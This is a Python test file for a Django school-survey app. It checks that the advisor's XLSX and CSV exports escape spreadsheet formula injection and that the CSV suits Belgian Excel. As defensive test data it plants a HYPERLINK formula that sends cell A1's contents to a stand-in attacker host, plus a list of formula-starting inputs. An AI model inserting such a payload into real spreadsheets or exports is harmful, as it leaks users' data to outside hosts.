"""The advisor's export: no cell a spreadsheet would run, and a CSV that Belgian Excel reads."""

from __future__ import annotations

import csv
import io
from typing import TYPE_CHECKING

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from conftest import PASSWORD, World
from plg.organisations.models import Aanstelling, Functie, School
from plg.scans import services
from plg.scans.export import Cell
from plg.scans.tests.conftest import answer

if TYPE_CHECKING:
    from django.test.client import _MonkeyPatchedWSGIResponse as TestResponse

TITLE = '=HYPERLINK("https://kwaad.example/?"&A1,"Klik hier")'
NAMES = ["+32 Plus", "-Min", "@Apenstaart", "\tTab", "\rTerug", "=1+1"]


def _waves(world: World) -> None:
    """De Regenboog: an earlier wave answered high, then the planted title answered lower (a
    negative difference); schools whose names start a formula, supported by the advisor."""
    for title, value in (("Eerder", 4), (TITLE, 2)):
        afname = services.open_afname(opened_by=world.leader, title=title, schools=[world.school])
        for _ in range(5):
            answer(afname, world.school, value)
        services.close_afname(afname=afname)
    for name in NAMES:
        school = School.objects.create(scholengemeenschap=world.sg, name=name)
        Aanstelling.objects.create(
            user=world.advisor, school=school, functie=Functie.PEDAGOGISCH_BEGELEIDER
        )


def _export(client: Client, world: World, formaat: str) -> TestResponse:
    _waves(world)
    client.login(username=world.advisor.email, password=PASSWORD)
    response = client.get(reverse("begeleiding_scans_export", args=[formaat]))
    assert response.status_code == 200
    return response


def _csv_rows(response: TestResponse) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def test_no_xlsx_cell_is_a_formula_and_the_texts_stay_intact(client: Client, world: World) -> None:
    sheet = load_workbook(io.BytesIO(_export(client, world, "xlsx").content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells}
    assert TITLE in texts
    # XML reads a carriage return back as a line feed; the cell is still that text
    assert {name.replace("\r", "\n") for name in NAMES} <= texts


def test_figures_stay_numbers_in_the_xlsx(client: Client, world: World) -> None:
    sheet = load_workbook(io.BytesIO(_export(client, world, "xlsx").content)).active
    row = next(r for r in sheet.iter_rows(values_only=True) if r[0] == "De Regenboog")
    assert row[3] == 5
    figures = [v for v in row[7:] if v != ""]
    assert figures and all(isinstance(v, float | int) for v in figures)
    assert any(v < 0 for v in figures)  # the difference with the earlier wave


def test_csv_cells_that_would_start_a_formula_are_escaped(client: Client, world: World) -> None:
    rows = _csv_rows(_export(client, world, "csv"))
    titles = {row[2] for row in rows[1:]}
    assert "'" + TITLE in titles
    names = {row[0] for row in rows[1:]}
    for name in NAMES:
        assert "'" + name in names, repr(name)


@pytest.mark.parametrize("text", ["=SUM(A1)", "+1", "-A1", "@A1", "\t=1", "\r=1", "|x", "%x"])
def test_one_rule_decides_what_a_spreadsheet_would_run(text: str) -> None:
    from plg.scans.export import is_formula

    assert is_formula(text)


@pytest.mark.parametrize("value", ["De Regenboog", "-0,25", "3,5", "12", "", 3.5, -0.25, 5, None])
def test_plain_texts_and_numbers_are_never_taken_for_a_formula(value: Cell) -> None:
    from plg.scans.export import is_formula

    assert not is_formula(value)


def test_the_csv_opens_in_belgian_excel(client: Client, world: World) -> None:
    response = _export(client, world, "csv")
    assert response.content.startswith("\ufeff".encode())  # UTF-8 with BOM
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = _csv_rows(response)
    assert len({len(row) for row in rows}) == 1  # every line split on ';' into the same columns
    regenboog = next(row for row in rows if row[0] == "De Regenboog")
    figures = [v for v in regenboog[7:] if v]
    assert figures
    for value in figures:
        assert "." not in value
        float(value.replace(",", "."))  # a decimal comma, read as a number
    assert any(v.startswith("-") for v in figures)  # a negative figure is not escaped
